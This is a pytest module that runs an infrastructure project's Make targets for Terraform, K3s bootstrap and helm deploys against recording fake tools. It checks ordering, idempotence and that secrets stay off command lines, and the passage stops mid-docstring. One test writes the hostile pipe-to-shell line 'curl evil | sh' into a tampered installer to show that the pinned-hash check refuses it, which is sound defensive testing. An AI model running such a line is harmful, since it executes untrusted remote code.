"""Shell scripts pass shellcheck; the Make targets run against fake terraform/ssh/kubectl/helm
executables placed first on PATH, which record their calls."""

from __future__ import annotations

import base64
import contextlib
import hashlib
import importlib.util
import itertools
import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.infra.conftest import (
    K3S_VERSION,
    PROD_EMAIL,
    PROD_INGRESS_HOST,
    REPO,
    Rendered,
    pod_spec,
    run,
    template,
    workloads,
)
from tests.infra.fakes.fake_tool import MASTER_SECRET, OUTPUTS, tf_backend
from tests.support.ports import free_port

pytestmark = pytest.mark.stand_in(
    "terraform, aws, ssh, kubectl and helm against AWS and a cluster: no cloud and no Kubernetes "
    "here; ran instead: the real make targets and scripts against recording fakes of those tools "
    "(helm template is real)"
)

FAKE_TOOLS = [
    *["terraform", "ssh", "kubectl", "helm", "ngrok", "uv", "curl", "git", "docker", "aws"],
]
# What the receiver files hold: secrets that must never reach a command line or the output.
WEBHOOK_URL = "https://hooks.example.org/ca4-never-on-a-command-line"
SLACK_URL = "https://hooks.slack.com/services/T0/B0/never-on-a-command-line"
SMTP_PASSWORD = "smtp-password-never-on-a-command-line"
FAKE_CA_BUNDLE = "-----BEGIN CERTIFICATE-----\nMIIfake\n-----END CERTIFICATE-----\n"
# The app user's DocumentDB URL, as docs/provisioning.md says to build it.
DOCDB_URL = (
    f"mongodb://ca4app:app-pw-never-on-a-command-line@{OUTPUTS['documentdb_endpoint']}:27017/ca4"
    "?tls=true&tlsCAFile=/etc/ca4/db-ca/global-bundle.pem&replicaSet=rs0&retryWrites=false"
    "&authSource=admin"
)
# The tag the fake git's commit gives the images.
IMAGE_TAG = "0123456789ab"
IMAGES = [f"ghcr.io/ca4-project/ca4-{service}:{IMAGE_TAG}" for service in ("processor", "worker")]
NODES = ["10.40.10.11", "10.40.11.21", "10.40.10.22"]
# What the fake curl serves as the K3s installer, and the pin the tests give the scripts.
FAKE_INSTALLER = b"#!/bin/sh\n# stand-in for the K3s installer\necho installed\n"
# What the recipes and scripts need from the system besides the faked tools.
SYSTEM_TOOLS = [
    "bash",
    "sh",
    "env",
    "cat",
    "sed",
    "grep",
    "mktemp",
    "rm",
    "mkdir",
    "chmod",
    "dirname",
    "head",
    "cut",
    "tr",
    "wc",
    "diff",
    "find",
    "cp",
    "install",
    "cmp",
    "make",
    "test",
    "printf",
    "sha256sum",
    "mv",
    "od",
    "awk",
    "sort",
    "pgrep",
]
GUIDE_TARGETS = [
    "ca4-apply",
    "ca4-bootstrap-k3s",
    "ca4-images",
    "ca4-db-user",
    "ca4-platform-setup",
    "ca4-deploy-app",
    "ca4-verify-e2e",
]
ALL_TARGETS = [
    *GUIDE_TARGETS,
    "ca4-images",
    "ca4-destroy",
    "dev-api",
    "dev-ngrok",
    "dev-kafka-tunnel",
]


def shell_scripts() -> list[Path]:
    """Every tracked or new (not ignored) file that is a shell script, by suffix or shebang."""
    listed = subprocess.run(
        ["git", "ls-files", "--cached", "--others", "--exclude-standard"],
        cwd=REPO,
        capture_output=True,
        text=True,
        check=True,
    ).stdout.split()
    scripts = []
    for name in listed:
        path = REPO / name
        if not path.is_file():
            continue
        if path.suffix in {".sh", ".bash"}:
            scripts.append(path)
            continue
        with path.open("rb") as handle:
            first = handle.readline(100)
        if re.match(rb"#!\s*/(usr/)?bin/(env\s+)?(ba)?sh\b", first):
            scripts.append(path)
    return sorted(scripts)


@pytest.mark.parametrize("script", shell_scripts(), ids=lambda p: str(p.relative_to(REPO)))
def test_shellcheck(shellcheck: str, script: Path) -> None:
    result = run([shellcheck, "-x", str(script)], cwd=script.parent)
    assert result.returncode == 0, result.stdout


def test_infra_scripts_are_found() -> None:
    names = {p.name for p in shell_scripts()}
    assert {"k3s-bootstrap.sh", "tunnel.sh", "preflight.sh", "helm-sync.sh", "lib.sh"} <= names


# The first deploy, in order: each target's prerequisites come before it (ca4-deploy-app refuses
# without ca4-images' tag; every kubectl/helm target refuses without the API tunnel).
DEPLOY_STEPS = [
    "ca4-apply",
    "ca4-bootstrap-k3s",
    "ca4-images",
    "ca4-db-user",
    "ca4-api-tunnel",
    "ca4-platform-setup",
    "ca4-deploy-app",
    "ca4-verify-e2e",
]


def test_deploy_steps_are_listed_in_the_same_order_everywhere() -> None:
    """The numbered help lines, `make help`, the README's Production section and the guide's
    numbered sections name every step of the first deploy, in the same order."""
    text = (REPO / "mk" / "infra.mk").read_text()
    numbered = sorted((int(n), t) for t, n in re.findall(r"^([a-z0-9-]+): ## (\d+)\. ", text, re.M))
    assert numbered == list(enumerate(DEPLOY_STEPS, start=1))
    shown = run(["make", "--no-print-directory", "help"], cwd=REPO).stdout
    assert re.findall(r"^ +(\d+)\. make (\S+)$", shown, re.M) == [(str(n), t) for n, t in numbered]
    readme = (REPO / "README.md").read_text()
    production = readme.split("\n## Production\n", 1)[1].split("\n## ", 1)[0]
    assert re.findall(r"^\d+\. `make ([a-z0-9-]+)`", production, re.M) == DEPLOY_STEPS
    guide = (REPO / "docs" / "provisioning.md").read_text()
    sections = re.findall(r"^## (\d+)\. `make ([a-z0-9-]+)`", guide, re.M)
    assert sections == [(str(n), t) for n, t in numbered]


def infra_targets() -> list[str]:
    """mk/infra.mk's CA4_INFRA_TARGETS: the provisioning targets, each given ENV and its state."""
    text = (REPO / "mk" / "infra.mk").read_text().replace("\\\n", " ")
    match = re.search(r"^CA4_INFRA_TARGETS := (.*)$", text, re.M)
    assert match, "no CA4_INFRA_TARGETS in mk/infra.mk"
    return match.group(1).split()


def test_make_help_lists_every_target() -> None:
    text = (REPO / "mk" / "infra.mk").read_text()
    for target in [*ALL_TARGETS, *infra_targets(), "helm-sync"]:
        assert re.search(rf"^{re.escape(target)}: ## \S", text, re.M), (
            f"{target} has no ## help line"
        )


def test_readme_names_every_provisioning_target() -> None:
    """The README's list of what `make help` shows once missed ca4-images, ca4-db-user and
    ca4-api-tunnel."""
    readme = (REPO / "README.md").read_text()
    listed = readme.split("and the provisioning\ntargets (", 1)[1].split(")", 1)[0]
    named = re.findall(r"`([a-z0-9-]+)`", listed)
    assert set(infra_targets()) | {"dev-api", "dev-ngrok"} <= set(named)


# -- fake environment ----------------------------------------------------------------------------


class Sandbox:
    """A PATH of fake tools plus the system tools the recipes need, and the call log. The fake
    helm renders with the real one (``helm template``). Terraform's data dir in the state dir
    starts initialised, as `make ca4-tf-init` leaves it, for whichever ENV a test runs."""

    def __init__(self, root: Path, real_helm: str) -> None:
        self.root = root
        self.bin = root / "bin"
        self.bin.mkdir()
        self.log = root / "calls.jsonl"
        self.state = root / "state"
        self.state.mkdir()
        self.home = root / "home"
        (self.home / ".kube").mkdir(parents=True)
        fake = (Path(__file__).parent / "fakes" / "fake_tool.py").read_text()
        for tool in FAKE_TOOLS:
            self.add_fake(tool, fake)
        for tool in SYSTEM_TOOLS:
            found = shutil.which(tool)
            if found is None:
                pytest.fail(f"system tool {tool} is missing: the Make targets need it")
            (self.bin / tool).symlink_to(found)
        self.pubkey = root / "id_ed25519.pub"
        self.pubkey.write_text("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKeyForTests ca4@test\n")
        self.identity = root / "id_ed25519"
        self.identity.write_text("not a real key: the fake ssh only checks that it is offered\n")
        self.downloads = root / "downloads"
        self.downloads.mkdir()
        (self.downloads / "install.sh").write_bytes(FAKE_INSTALLER)
        (self.downloads / "global-bundle.pem").write_text(FAKE_CA_BUNDLE)
        self.state_dir = root / "ca4-state"
        (self.state_dir / "terraform").mkdir(parents=True)
        (self.state_dir / "terraform" / "terraform.tfstate").write_text(tf_backend())
        # The documented first deploy names a file for each enabled receiver (dev: the webhook).
        self.webhook_url_file = root / "alert-webhook-url"
        self.webhook_url_file.write_text(WEBHOOK_URL)
        real_ssh = shutil.which("ssh")
        if real_ssh is None:
            pytest.fail("ssh is missing: the fake ssh resolves options with the real `ssh -G`")
        self.env = {
            "PATH": str(self.bin),
            "HOME": str(self.home),
            "CA4_FAKE_LOG": str(self.log),
            "CA4_FAKE_STATE": str(self.state),
            "CA4_FAKE_DOWNLOADS": str(self.downloads),
            "CA4_REAL_SSH": real_ssh,
            "CA4_STATE_DIR": str(self.state_dir),
            "CA4_SSH_IDENTITY": str(self.identity),
            "CA4_K3S_INSTALLER_SHA256": hashlib.sha256(FAKE_INSTALLER).hexdigest(),
            "AWS_PROFILE": "ca4-test",
            "CA4_TF_STATE_BUCKET": "ca4-tfstate-test",
            "CA4_OPERATOR_CIDR": "198.51.100.7/32",
            "CA4_SSH_PUBLIC_KEY_FILE": str(self.pubkey),
            "CA4_MONGO_URL": DOCDB_URL,
            "CA4_API_KEY_HASHES": "ci:" + "a" * 64,
            "NGROK_AUTHTOKEN": "fake",
            "CA4_API_KEY": "ca4-verify-key",
            "CA4_GRAFANA_TOKEN": "glsa_viewer",
            "CA4_KAFKA_TUNNEL_PORT": "1",  # a port nothing listens on, so the tunnel is opened
            "CA4_REAL_HELM": real_helm,
            "CA4_ALERT_WEBHOOK_URL_FILE": str(self.webhook_url_file),
            # prod's email receiver (values-prod.yaml leaves them to the operator)
            "CA4_ALERT_EMAIL_TO": PROD_EMAIL["to"],
            "CA4_ALERT_EMAIL_FROM": PROD_EMAIL["from"],
            "CA4_ALERT_SMTP_SMARTHOST": PROD_EMAIL["smarthost"],
            "CA4_ALERT_SMTP_USERNAME": PROD_EMAIL["authUsername"],
        }

    def add_fake(self, tool: str, source: str) -> None:
        path = self.bin / tool
        path.write_text(f"#!{sys.executable}\n{source}")
        path.chmod(0o755)

    def make(
        self, *targets: str, env: dict[str, str] | None = None
    ) -> subprocess.CompletedProcess[str]:
        kube = self.home / ".kube" / "ca4-dev.yaml"
        return run(
            ["make", "--no-print-directory", "-f", str(REPO / "mk" / "infra.mk"), *targets],
            cwd=REPO,
            env={**self.env, **(env or {})}
            | ({"CA4_KUBECONFIG": str(kube)} if "CA4_KUBECONFIG" not in (env or {}) else {}),
            timeout=120,
        )

    def calls(self) -> list[dict[str, Any]]:
        if not self.log.exists():
            return []
        return [json.loads(line) for line in self.log.read_text().splitlines()]

    def reset(self) -> None:
        self.log.unlink(missing_ok=True)


@pytest.fixture
def sandbox(tmp_path: Path, helm: str) -> Sandbox:
    return Sandbox(tmp_path, helm)


def verb_args(argv: list[str]) -> list[str]:
    """argv without -chdir=... and -n NAMESPACE, so the verb comes first."""
    out, skip = [], False
    for arg in argv:
        if skip:
            skip = False
        elif arg == "-n":
            skip = True
        elif not arg.startswith("-chdir"):
            out.append(arg)
    return out


def steps(calls: list[dict[str, Any]]) -> list[str]:
    """The calls as `tool verb` strings, without terraform outputs and kubectl version."""
    out = []
    for call in calls:
        argv = verb_args(call["argv"])
        if call["tool"] == "terraform" and argv[0] == "output":
            continue
        if call["tool"] == "kubectl" and argv[0] == "version":
            continue
        out.append(f"{call['tool']} {argv[0] if argv else ''}".strip())
    return out


def test_guide_sequence(sandbox: Sandbox) -> None:
    result = sandbox.make("ca4-apply", "ca4-bootstrap-k3s", "ca4-images")
    assert result.returncode == 0, result.stderr
    # The kubeconfig now exists, so the Kubernetes targets can run.
    result = sandbox.make("ca4-platform-setup", "ca4-deploy-app", "ca4-verify-e2e")
    assert result.returncode == 0, result.stderr
    calls = sandbox.calls()
    sequence = steps(calls)
    # 1. terraform init -> plan -> the plan's check (show -json | check-tf-plan.py) -> apply
    assert sequence[:5] == [
        *["terraform init", "terraform plan", "terraform show", "uv run", "terraform apply"]
    ]
    init = calls[0]["argv"]
    assert "-backend-config=key=ca4/dev/terraform.tfstate" in init
    assert "-backend-config=bucket=ca4-tfstate-test" in init
    # 2. ssh: first server installed before any agent, every ssh through the bastion
    ssh_calls = [c for c in calls if c["tool"] == "ssh"]
    assert ssh_calls
    assert all(c["policy"]["target"]["proxyjump"] == ["ubuntu@203.0.113.10"] for c in ssh_calls)
    assert all(c["policy"]["hop"] for c in ssh_calls)
    installs = [c for c in ssh_calls if "INSTALL_K3S_VERSION" in " ".join(c["argv"])]
    assert [c["argv"][c["argv"].index("-F") + 2] for c in installs] == [
        "ubuntu@10.40.10.11",
        "ubuntu@10.40.11.21",
        "ubuntu@10.40.10.22",
    ]
    assert f"INSTALL_K3S_VERSION='{K3S_VERSION}'" in " ".join(installs[0]["argv"])
    assert "--tls-san=127.0.0.1" in " ".join(installs[0]["argv"])
    for agent in installs[1:]:
        assert "--token-file=/etc/rancher/k3s/ca4-token" in " ".join(agent["argv"])
        assert "K10fake" not in " ".join(agent["argv"]), "the token never appears on a command line"
    # ca4-images' calls: containerd's image list and imports, each node's architecture
    bootstrap = [
        c for c in ssh_calls if "k3s ctr" not in " ".join(c["argv"]) and c["argv"][-1] != "uname -m"
    ]
    assert "kubectl wait --for=condition=Ready nodes" in " ".join(bootstrap[-1]["argv"])
    kubeconfig = sandbox.home / ".kube" / "ca4-dev.yaml"
    assert "server: https://127.0.0.1:6443" in kubeconfig.read_text()
    assert oct(kubeconfig.stat().st_mode & 0o777) == "0o600"
    # 3-5. platform chart, then the app Secret and chart, then ca4 verify
    after_ssh = [s for s in sequence[3:] if not s.startswith("ssh")]
    helm_calls = [c for c in calls if c["tool"] == "helm" and c["argv"][0] == "upgrade"]
    assert [c["argv"][2] for c in helm_calls] == ["ca4-platform", "ca4-app"]
    platform_install = after_ssh.index("helm upgrade")
    app_secret = after_ssh.index("kubectl create", platform_install)
    assert after_ssh.index("helm upgrade", platform_install + 1) > app_secret
    assert after_ssh[-1] == "uv run"
    app = helm_calls[1]["argv"]
    assert "config.s3.bucket=ca4-dev-archive-123456789012" in app
    assert f"image.tag={IMAGE_TAG}" in app
    secret_apply = [c for c in calls if c["tool"] == "kubectl" and c["argv"][:2] == ["apply", "-f"]]
    # the monitoring namespace, the receivers Secret, the platform namespace, the app Secret, the
    # CA bundle
    assert len(secret_apply) == 5
    assert "mongodb://" not in json.dumps([c["argv"] for c in calls]), (
        "secrets never on a command line"
    )


def test_bootstrap_is_idempotent(sandbox: Sandbox) -> None:
    assert sandbox.make("ca4-bootstrap-k3s").returncode == 0
    kubeconfig = sandbox.home / ".kube" / "ca4-dev.yaml"
    first_mtime = kubeconfig.stat().st_mtime_ns
    sandbox.reset()
    second = sandbox.make("ca4-bootstrap-k3s")
    assert second.returncode == 0, second.stderr
    remote = [" ".join(c["argv"]) for c in sandbox.calls() if c["tool"] == "ssh"]
    assert not [r for r in remote if "INSTALL_K3S_VERSION" in r], "second run reinstalled K3s"
    assert "already installed, unchanged" in second.stderr
    assert "kubeconfig" in second.stderr
    assert "unchanged" in second.stderr
    assert kubeconfig.stat().st_mtime_ns == first_mtime


def ssh_calls_through_the_bastion(sandbox: Sandbox) -> list[dict[str, Any]]:
    """The recorded ssh calls that hop through the bastion, each with its resolved policy."""
    calls = [c for c in sandbox.calls() if c["tool"] == "ssh" and "hop" in c["policy"]]
    assert calls, "no ssh call went through the bastion"
    return calls


def test_bootstrap_hop_never_prompts_for_a_host_key(sandbox: Sandbox) -> None:
    """The ProxyJump hop gets the target's host-key policy and project-local known_hosts: options
    on the ssh command line never reach the hop, so on a first run the bastion's prompt hung."""
    result = sandbox.make("ca4-bootstrap-k3s")
    assert result.returncode == 0, result.stderr
    known_hosts = str(sandbox.state_dir / "known_hosts")
    for call in ssh_calls_through_the_bastion(sandbox):
        for side in ("hop", "target"):
            policy = call["policy"][side]
            assert policy["stricthostkeychecking"] == ["accept-new"], (side, call["argv"])
            assert policy["batchmode"] == ["yes"], (side, call["argv"])
            assert policy["userknownhostsfile"] == [known_hosts], (side, call["argv"])


def test_bootstrap_hop_uses_the_operator_identity(sandbox: Sandbox) -> None:
    """A key given only through CA4_SSH_IDENTITY is offered to the bastion hop as well."""
    result = sandbox.make("ca4-bootstrap-k3s")
    assert result.returncode == 0, result.stderr
    for call in ssh_calls_through_the_bastion(sandbox):
        for side in ("hop", "target"):
            assert str(sandbox.identity) in call["policy"][side]["identityfile"], side


def test_bootstrap_runs_only_the_pinned_installer(sandbox: Sandbox) -> None:
    """The installer is fetched at its pinned tag, checked against its sha256 and fed to the
    node's shell with the pinned K3s release; nothing is piped from the internet on the node."""
    result = sandbox.make("ca4-bootstrap-k3s")
    assert result.returncode == 0, result.stderr
    fetches = [c["argv"] for c in sandbox.calls() if c["tool"] == "curl"]
    assert fetches == [
        [*fetches[0][:-1], "https://raw.githubusercontent.com/k3s-io/k3s/v1.36.4%2Bk3s1/install.sh"]
    ]
    installs = [
        c
        for c in sandbox.calls()
        if c["tool"] == "ssh" and "INSTALL_K3S_VERSION" in " ".join(c["argv"])
    ]
    assert len(installs) == 3
    for call in installs:
        remote = " ".join(call["argv"])
        assert "curl" not in remote, remote
        assert "get.k3s.io" not in remote, remote
        assert call["stdin"] == FAKE_INSTALLER.decode()
        assert f"INSTALL_K3S_VERSION='{K3S_VERSION}'" in remote, remote


def test_bootstrap_gives_traefik_a_write_deadline_on_every_server(sandbox: Sandbox) -> None:
    """Traefik as K3s ships it sets no write deadline: a client that never read an answer kept
    it, and the pod's memory behind it, while it stayed connected. The read deadline is written
    out: uvicorn behind it waits for a request's headers for ever. Every server gets the
    HelmChartConfig in its auto-deploy folder, byte for byte."""
    result = sandbox.make("ca4-bootstrap-k3s")
    assert result.returncode == 0, result.stderr
    config = REPO / "infra" / "k3s" / "traefik-config.yaml"
    servers = {
        c["argv"][-2]
        for c in sandbox.calls()
        if c["tool"] == "ssh"
        and "INSTALL_K3S_VERSION" in " ".join(c["argv"])
        and " server " in f" {c['argv'][-1]} "
    }
    pushes = [
        c
        for c in sandbox.calls()
        if c["tool"] == "ssh"
        and "/var/lib/rancher/k3s/server/manifests/ca4-traefik-config.yaml" in c["argv"][-1]
    ]
    assert servers, "no server was installed"
    assert {c["argv"][-2] for c in pushes} == servers, "one copy on each server"
    assert all(c["stdin"] == config.read_text() for c in pushes)
    (manifest,) = yaml.safe_load_all(config.read_text())
    assert (manifest["kind"], manifest["metadata"]) == (
        "HelmChartConfig",
        {"name": "traefik", "namespace": "kube-system"},
    )
    ports = yaml.safe_load(manifest["spec"]["valuesContent"])["ports"]
    for entry_point in ("web", "websecure"):
        timeouts = ports[entry_point]["transport"]["respondingTimeouts"]
        assert timeouts == {"readTimeout": "60s", "writeTimeout": "60s"}, entry_point


def test_bootstrap_refuses_a_tampered_installer(sandbox: Sandbox) -> None:
    (sandbox.downloads / "install.sh").write_bytes(FAKE_INSTALLER + b"curl evil | sh\n")
    result = sandbox.make("ca4-bootstrap-k3s")
    assert result.returncode != 0
    assert "does not match its pinned sha256" in result.stderr
    installs = [c for c in sandbox.calls() if "INSTALL_K3S_VERSION" in " ".join(c["argv"])]
    assert installs == []


# -- ca4-bootstrap-k3s after Terraform replaced a server -----------------------------------------

HA_SERVERS = ["10.41.10.11", "10.41.11.12", "10.41.10.13"]


def servers_output(servers: list[str]) -> dict[str, str]:
    """CA4_FAKE_TF_OUTPUTS naming these K3s servers (the default agents)."""
    return {"CA4_FAKE_TF_OUTPUTS": json.dumps({"k3s_server_private_ips": servers})}


def remote_calls(sandbox: Sandbox, *words: str) -> list[tuple[str, str]]:
    """(host, remote command) of the ssh calls whose command holds every one of ``words``."""
    out = []
    for call in sandbox.calls():
        argv = call["argv"]
        if call["tool"] != "ssh" or "-F" not in argv or "-L" in argv:
            continue
        host, command = argv[argv.index("-F") + 2], " ".join(argv[argv.index("-F") + 3 :])
        if all(word in command for word in words):
            out.append((host.split("@", 1)[1], command))
    return out


def test_bootstrap_after_the_first_server_was_replaced_joins_the_running_cluster(
    sandbox: Sandbox,
) -> None:
    """servers[0] replaced (new instance, new IP, no K3s) while the others run: the re-run joins
    it to the cluster through a server that runs K3s, instead of creating a second, empty cluster
    on it and switching kubectl and helm to that one."""
    first = sandbox.make("ca4-bootstrap-k3s", env=servers_output(HA_SERVERS))
    assert first.returncode == 0, first.stderr
    # A fresh cluster is still created on the first server; every other node joins it.
    installs = remote_calls(sandbox, "INSTALL_K3S_VERSION")
    assert installs[0][0] == HA_SERVERS[0]
    assert "--cluster-init" in installs[0][1]
    for _, command in installs[1:]:
        assert f"--server=https://{HA_SERVERS[0]}:6443" in command
        assert "--cluster-init" not in command
    kubeconfig = sandbox.home / ".kube" / "ca4-dev.yaml"
    before = kubeconfig.read_text()
    assert "certificate-authority-data:" in before
    sandbox.reset()
    replaced = ["10.41.10.99", *HA_SERVERS[1:]]
    second = sandbox.make("ca4-bootstrap-k3s", env=servers_output(replaced))
    assert second.returncode == 0, second.stderr
    installs = remote_calls(sandbox, "INSTALL_K3S_VERSION")
    assert [host for host, _ in installs] == ["10.41.10.99"], "only the new server is installed"
    assert "--cluster-init" not in installs[0][1]
    assert f"--server=https://{HA_SERVERS[1]}:6443" in installs[0][1]
    assert "--token-file=/etc/rancher/k3s/ca4-token" in installs[0][1]
    assert [host for host, _ in remote_calls(sandbox, "node-token")] == [HA_SERVERS[1]]
    assert [host for host, _ in remote_calls(sandbox, "k3s.yaml")] == [HA_SERVERS[1]]
    assert [host for host, _ in remote_calls(sandbox, "kubectl wait")] == [HA_SERVERS[1]]
    assert f"the cluster runs on {HA_SERVERS[1]}" in second.stderr
    assert kubeconfig.read_text() == before, "kubectl and helm stay on the same cluster"
    # Once it runs K3s, the first server is the one the others join again.
    sandbox.reset()
    third = sandbox.make("ca4-bootstrap-k3s", env=servers_output(replaced))
    assert third.returncode == 0, third.stderr
    assert remote_calls(sandbox, "INSTALL_K3S_VERSION") == []
    assert [host for host, _ in remote_calls(sandbox, "node-token")] == ["10.41.10.99"]
    assert kubeconfig.read_text() == before


def test_a_server_that_does_not_answer_stops_the_bootstrap_before_any_install(
    sandbox: Sandbox,
) -> None:
    """servers[0] replaced while the others do not answer ssh (bastion, security group): taken
    as "no K3s there", the run created a second cluster on the new server."""
    first = sandbox.make("ca4-bootstrap-k3s", env=servers_output(HA_SERVERS))
    assert first.returncode == 0, first.stderr
    sandbox.reset()
    replaced = ["10.41.10.99", *HA_SERVERS[1:]]
    env = {**servers_output(replaced), "CA4_FAKE_SSH_UNREACHABLE": " ".join(HA_SERVERS[1:])}

    result = sandbox.make("ca4-bootstrap-k3s", env=env)

    assert result.returncode != 0
    assert f"cannot ask {HA_SERVERS[1]} whether it runs K3s" in result.stderr
    assert remote_calls(sandbox, "INSTALL_K3S_VERSION") == []


def test_bootstrap_keeps_a_kubeconfig_of_another_cluster_unless_told(sandbox: Sandbox) -> None:
    """A kubeconfig whose CA is not the fetched cluster's is another cluster's: it is not
    overwritten (kubectl and helm would switch clusters) unless CA4_KUBECONFIG_REPLACE=yes."""
    kubeconfig = sandbox.home / ".kube" / "ca4-dev.yaml"
    other = (
        "apiVersion: v1\nclusters:\n- cluster:\n"
        "    certificate-authority-data: b3RoZXItY2x1c3Rlcg==\n"
        "    server: https://127.0.0.1:6443\n  name: ca4-dev\n"
    )
    kubeconfig.write_text(other)
    result = sandbox.make("ca4-bootstrap-k3s")
    assert result.returncode != 0
    assert (
        f"k3s-bootstrap.sh: the cluster on 10.40.10.11 is not the one {kubeconfig} is for "
        "(another certificate authority)"
    ) in result.stderr, result.stderr
    assert "CA4_KUBECONFIG_REPLACE=yes" in result.stderr
    assert kubeconfig.read_text() == other
    assert remote_calls(sandbox, "kubectl wait") == []
    sandbox.reset()
    result = sandbox.make("ca4-bootstrap-k3s", env={"CA4_KUBECONFIG_REPLACE": "yes"})
    assert result.returncode == 0, result.stderr
    assert "b3RoZXItY2x1c3Rlcg==" not in kubeconfig.read_text()
    assert remote_calls(sandbox, "INSTALL_K3S_VERSION") == [], "K3s was installed the first time"


def test_bootstrap_refuses_a_new_cluster_beside_agents_of_an_old_one(sandbox: Sandbox) -> None:
    """dev's one server replaced: the agents run K3s for a cluster that is gone. Creating a new
    cluster would leave them out; the run stops before changing anything and says why."""
    assert sandbox.make("ca4-bootstrap-k3s").returncode == 0
    sandbox.reset()
    result = sandbox.make("ca4-bootstrap-k3s", env=servers_output(["10.40.10.99"]))
    assert result.returncode != 0
    assert (
        "k3s-bootstrap.sh: no server runs K3s, but the agent(s) 10.40.11.21 10.40.10.22 do"
    ) in result.stderr, result.stderr
    assert remote_calls(sandbox, "INSTALL_K3S_VERSION") == []


def test_api_tunnel_goes_to_a_server_that_runs_k3s(sandbox: Sandbox) -> None:
    """Between `make ca4-apply` replacing servers[0] and the next bootstrap, the API is on the
    servers that still run K3s: the tunnel goes there (and to servers[0] when none does yet)."""
    port = str(free_port())
    env = {"CA4_API_TUNNEL_PORT": port}
    result = sandbox.make("ca4-api-tunnel", env=env | servers_output(HA_SERVERS))
    assert result.returncode == 0, result.stderr
    assert "no server runs K3s yet: tunnelling to 10.41.10.11" in result.stderr
    tunnels = [c["argv"] for c in sandbox.calls() if c["tool"] == "ssh" and "-L" in c["argv"]]
    assert [a[a.index("-L") + 1] for a in tunnels] == [f"127.0.0.1:{port}:10.41.10.11:6443"]
    assert sandbox.make("ca4-bootstrap-k3s", env=servers_output(HA_SERVERS)).returncode == 0
    sandbox.reset()
    replaced = ["10.41.10.99", *HA_SERVERS[1:]]
    result = sandbox.make("ca4-api-tunnel", env=env | servers_output(replaced))
    assert result.returncode == 0, result.stderr
    tunnels = [c["argv"] for c in sandbox.calls() if c["tool"] == "ssh" and "-L" in c["argv"]]
    assert [a[a.index("-L") + 1] for a in tunnels] == [f"127.0.0.1:{port}:10.41.11.12:6443"]


def test_api_tunnel_to_any_server_of_the_cluster_is_kept(sandbox: Sandbox) -> None:
    port = free_port()
    spec = f"127.0.0.1:{port}:10.41.11.12:6443"
    env = {"CA4_API_TUNNEL_PORT": str(port)} | servers_output(HA_SERVERS)
    with listening(port, "ssh", "-F", "cfg", "-f", "-N", "-L", spec, "ubuntu@203.0.113.10"):
        result = sandbox.make("ca4-api-tunnel", env=env)
    assert result.returncode == 0, result.stderr
    assert f"127.0.0.1:{port} is already this tunnel" in result.stderr
    assert not [c for c in sandbox.calls() if c["tool"] == "ssh"]
    stale = f"127.0.0.1:{port}:10.41.10.7:6443"  # a server Terraform replaced
    with listening(port, "ssh", "-F", "cfg", "-f", "-N", "-L", stale, "ubuntu@203.0.113.10"):
        result = sandbox.make("ca4-api-tunnel", env=env)
    assert result.returncode != 0
    assert f"127.0.0.1:{port} is an ssh tunnel to another address than port 6443 of a K3s " in (
        result.stderr
    )
    # dev's and prod's tunnels both default to one port: the message names the way out
    assert "another ENV's tunnel (give each ENV its own port: CA4_API_TUNNEL_PORT" in result.stderr


def image_steps(calls: list[dict[str, Any]]) -> list[str]:
    """Builds, saves and node imports, as `verb ref` / `import node ref` strings, in call order."""
    out = []
    for call in calls:
        argv = call["argv"]
        if call["tool"] == "docker" and argv[0] in {"build", "save"}:
            ref = argv[argv.index("-t") + 1] if argv[0] == "build" else argv[-1]
            out.append(f"{argv[0]} {ref}")
        elif call["tool"] == "ssh" and "images import" in " ".join(argv):
            node = argv[argv.index("-F") + 2].split("@")[1]
            out.append(f"import {node} {call['stdin'].split()[1]}")
    return out


def test_first_deploy_builds_ships_and_deploys_one_tag(sandbox: Sandbox) -> None:
    """The whole first deploy, non-interactive: the images built at the commit are the ones every
    node imports and the one tag Helm deploys; a second run builds, ships and installs nothing."""
    guide = ["ca4-apply", "ca4-bootstrap-k3s", "ca4-images", "ca4-db-user"]
    cluster = ["ca4-platform-setup", "ca4-deploy-app", "ca4-verify-e2e"]
    for run_number in (1, 2):
        sandbox.reset()
        for targets in (guide, cluster):
            result = sandbox.make(*targets, env={"CA4_SSH_IDENTITY": str(sandbox.identity)})
            assert result.returncode == 0, result.stderr
        calls = sandbox.calls()
        order = [s for s in steps(calls) if s.split()[0] in {"terraform", "docker", "helm", "uv"}]
        assert order[:5] == [
            *["terraform init", "terraform plan", "terraform show", "uv run", "terraform apply"]
        ]
        # the platform, the app Secret's check (uv run python), the app, then ca4 verify
        assert order[-4:] == ["helm upgrade", "uv run", "helm upgrade", "uv run"]
        helm = [c["argv"] for c in calls if c["tool"] == "helm" and c["argv"][0] == "upgrade"]
        assert f"image.tag={IMAGE_TAG}" in helm[1]
        # The app's database user: the master secret only on the stdin of `ca4 db-user`.
        db_user = next(c for c in calls if c["tool"] == "uv" and "db-user" in c["argv"])
        assert db_user["stdin"].splitlines()[0] == MASTER_SECRET
        master_password = "master-pw-never-in-argv"
        assert master_password not in json.dumps([c["argv"] for c in calls])
        assert not [
            c for c in calls if c["tool"] in {"kubectl", "helm"} and master_password in c["stdin"]
        ]
        ssh_policies = [side for c in calls if c["tool"] == "ssh" for side in c["policy"].values()]
        assert all(side["batchmode"] == ["yes"] for side in ssh_policies), "ssh could prompt"
        if run_number == 1:
            assert image_steps(calls) == [
                *[f"build {IMAGES[0]}", f"save {IMAGES[0]}"],
                *[f"import {node} {IMAGES[0]}" for node in NODES],
                *[f"build {IMAGES[1]}", f"save {IMAGES[1]}"],
                *[f"import {node} {IMAGES[1]}" for node in NODES],
            ]
            state = {p: p.read_bytes() for p in sandbox.state_dir.rglob("*") if p.is_file()}
            kubeconfig = (sandbox.home / ".kube" / "ca4-dev.yaml").stat().st_mtime_ns
        else:
            assert image_steps(calls) == [], "second run rebuilt or reshipped"
            assert not [c for c in calls if "create-secret" in c["argv"]], "a second app secret"
            assert not [c for c in calls if "INSTALL_K3S_VERSION" in " ".join(c["argv"])]
            after = {p: p.read_bytes() for p in sandbox.state_dir.rglob("*") if p.is_file()}
            assert after == state
            assert (sandbox.home / ".kube" / "ca4-dev.yaml").stat().st_mtime_ns == kubeconfig
    assert (sandbox.state_dir / "image-tag").read_text().strip() == IMAGE_TAG


def test_deploy_passes_an_all_digit_image_tag_as_a_string(sandbox: Sandbox, helm: str) -> None:
    """About one commit in 300 has twelve decimal digits for its tag: ``--set`` made it a number,
